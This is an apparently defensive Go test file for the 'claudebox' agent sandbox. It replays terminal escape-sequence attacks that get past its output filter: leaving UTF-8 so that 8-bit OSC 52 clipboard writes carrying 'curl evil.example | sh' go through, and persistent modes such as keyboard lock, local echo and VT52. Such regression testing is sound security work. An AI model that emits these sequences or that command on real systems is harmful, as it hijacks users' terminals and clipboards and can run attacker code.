package replay

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/claudebox/claudebox/e2e/harness"
)

// TestReplayAttackTerminalLeavesUTF8: the filter's fail-closed rule rests on
// a UTF-8 terminal ("which decodes characters before it looks for
// controls"), but it passes ESC % @, ISO 2022's "leave UTF-8" (xterm, st,
// the Linux console obey it), and does not undo it at exit. The sandbox
// sends ESC % @, then U+07DD (bytes 0xDF 0x9D) followed by
// "52;c;<base64>" and BEL: each is passed as text, and a terminal that has
// left UTF-8 reads 0x9D as an 8-bit OSC, a clipboard write (or, through
// 0x9B, any CSI; through 0x90, DCS). Since nothing sends ESC % G at exit,
// the host's own later output (git log of a commit message the agent
// wrote) is read the same way after the session. Host-side proof: the
// bytes claudebox relayed to the user's terminal (tmux's pipe-pane) hold
// the ESC % @ and a raw 0x9D, and no ESC % G follows.
func TestReplayAttackTerminalLeavesUTF8(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "latin1")
	h.Write(filepath.Join(proj, "README"), "l\n")
	payload := base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh"))
	h.Write(filepath.Join(proj, "leave"), fmt.Sprintf(`
printf '\033%%%%@' > /dev/tty
printf '\337\23552;c;%%s\a' %s > /dev/tty
printf '\337\233?2004h\302\240' > /dev/tty
`, payload))
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	pane := harness.TmuxPaneLog(t, h, tmux)
	tmux("send-keys", "claudebox --shell leave; echo DO''NE", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE") }, "claudebox to exit")
	time.Sleep(200 * time.Millisecond)
	out := pane()
	i := bytes.Index(out, []byte("\x1b%@"))
	if i < 0 {
		return
	}
	rest := out[i:]
	if !bytes.Contains(rest, []byte("\x1b%G")) {
		t.Errorf("ESC %% @ (leave UTF-8) reached the terminal and nothing put UTF-8 back at exit")
	}
	if bytes.Contains(rest, []byte("\x9d52;c;")) || bytes.Contains(rest, []byte("\x9b?2004h")) {
		t.Errorf("after ESC %% @, 8-bit OSC 52 / CSI reached the terminal as raw 0x9D / 0x9B bytes: %q", rest)
	}
}

// TestReplayAttackTerminalModesNotReset: every CSI passes the filter, and
// the reset at exit undoes a fixed list of modes, which misses modes xterm
// keeps after the program is gone: KAM (CSI 2 h locks the keyboard: the
// user's shell gets no keystroke), SRM (CSI 12 l: local echo, so what the
// user types at a password prompt afterwards shows on the screen), DECARM
// (CSI ? 8 l: no key repeat), DECBKM (CSI ? 67 h: Backspace sends BS), and
// xterm's meta-key modes 1034/1036/1039. Host-side proof: the bytes
// claudebox relayed to the user's terminal set each and its exit reset does
// not undo it.
func TestReplayAttackTerminalModesNotReset(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "kam")
	h.Write(filepath.Join(proj, "README"), "k\n")
	h.Write(filepath.Join(proj, "leave"), `printf '\033[2h\033[12l\033[?8l\033[?67h\033[?1034h\033[?1036l\033[?1039h' > /dev/tty`+"\n")
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	pane := harness.TmuxPaneLog(t, h, tmux)
	tmux("send-keys", "claudebox --shell leave; echo DO''NE", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE") }, "claudebox to exit")
	time.Sleep(200 * time.Millisecond)
	out := pane()
	for set, undo := range map[string]string{
		"\x1b[2h": "\x1b[2l", "\x1b[12l": "\x1b[12h", "\x1b[?8l": "\x1b[?8h", "\x1b[?67h": "\x1b[?67l",
		"\x1b[?1034h": "\x1b[?1034l", "\x1b[?1036l": "\x1b[?1036h", "\x1b[?1039h": "\x1b[?1039l",
	} {
		i := bytes.Index(out, []byte(set))
		if i >= 0 && !bytes.Contains(out[i+len(set):], []byte(undo)) {
			t.Errorf("%q reached the terminal and the exit reset does not undo it", set)
		}
	}
}

// TestReplayAttackTerminalVT52AndKeyModifiers: CSI ? 2 l puts xterm in
// VT52 mode, in which the exit's reset (CSI sequences) is not understood,
// and CSI > 1;3 m / CSI > 2;3 m set the key modifier resources for cursor
// and function keys (what Shift-arrow and F5 send to the user's shell
// afterwards); CSI 61;0 " p selects a VT100 level with 8-bit replies.
// Each passed the filter and stayed after the session. Host-side proof:
// none of them is in the bytes claudebox relayed to the user's terminal,
// while the text after them is.
func TestReplayAttackTerminalVT52AndKeyModifiers(t *testing.T) {
	h := harness.NewHost(t)
	proj := filepath.Join(h.Home, "code", "vt52")
	h.Write(filepath.Join(proj, "README"), "v\n")
	h.Write(filepath.Join(proj, "leave"), `printf '\033[?2l\033[>1;3m\033[>2;3m\033[61;0"pAFTER''MODES' > /dev/tty`+"\n")
	tmux := h.Tmux(proj)
	tmux("new-session", "-d", "-x", "100", "-y", "30", "bash --norc --noprofile")
	pane := harness.TmuxPaneLog(t, h, tmux)
	tmux("send-keys", "claudebox --shell leave; echo DO''NE", "Enter")
	harness.WaitScreen(t, tmux, func(s string) bool { return strings.Contains(s, "DONE") }, "claudebox to exit")
	time.Sleep(200 * time.Millisecond)
	out := pane()
	if !bytes.Contains(out, []byte("AFTERMODES")) {
		t.Fatalf("the session's output did not reach the terminal: %q", out)
	}
	for _, seq := range []string{"\x1b[?2l", "\x1b[>1;3m", "\x1b[>2;3m", "\x1b[61;0\"p"} {
		if bytes.Contains(out, []byte(seq)) {
			t.Errorf("%q reached the terminal, and stays after the session", seq)
		}
	}
}
